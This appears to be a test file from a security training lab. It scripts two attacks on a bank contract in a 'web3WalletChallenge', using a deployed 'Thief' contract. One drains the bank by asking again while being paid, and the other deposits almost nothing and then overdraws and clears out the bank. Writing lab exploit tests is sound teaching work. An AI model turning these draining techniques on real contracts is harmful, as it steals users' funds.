import type { Attack, LabContract, Tools } from '#lab'
import { BANK, SIP } from './steps.ts'

/** Connects a wallet, as the bank's page does, and deploys a thief from it. */
async function send({ http, chain }: Tools): Promise<{ from: string; thief: LabContract }> {
  const [from = ''] = await chain.accounts()
  await http.post('/rest/web3/walletExploitAddress', { walletAddress: from })
  return { from, thief: await chain.deploy('Thief', { from, args: [BANK] }) }
}

export const attacks: Attack[] = [
  {
    challenge: 'web3WalletChallenge',
    name: 'ask again while being paid',
    run: async (tools) => {
      const { from, thief } = await send(tools)
      const before = await tools.chain.balance(BANK)
      await thief.write('steal', [SIP], { from, value: SIP })
      tools.expect((await tools.chain.balance(BANK)) < before, 'the bank has all that it had')
    },
  },
  {
    challenge: 'web3WalletChallenge',
    name: 'bring next to nothing, overdraw it, and clear out the bank',
    run: async (tools) => {
      const { from, thief } = await send(tools)
      await thief.write('steal', [1n], { from, value: 1n })
      await thief.write('clearOut', [SIP], { from })
      tools.expect((await tools.chain.balance(BANK)) < SIP, 'there is something left in the bank')
    },
  },
]
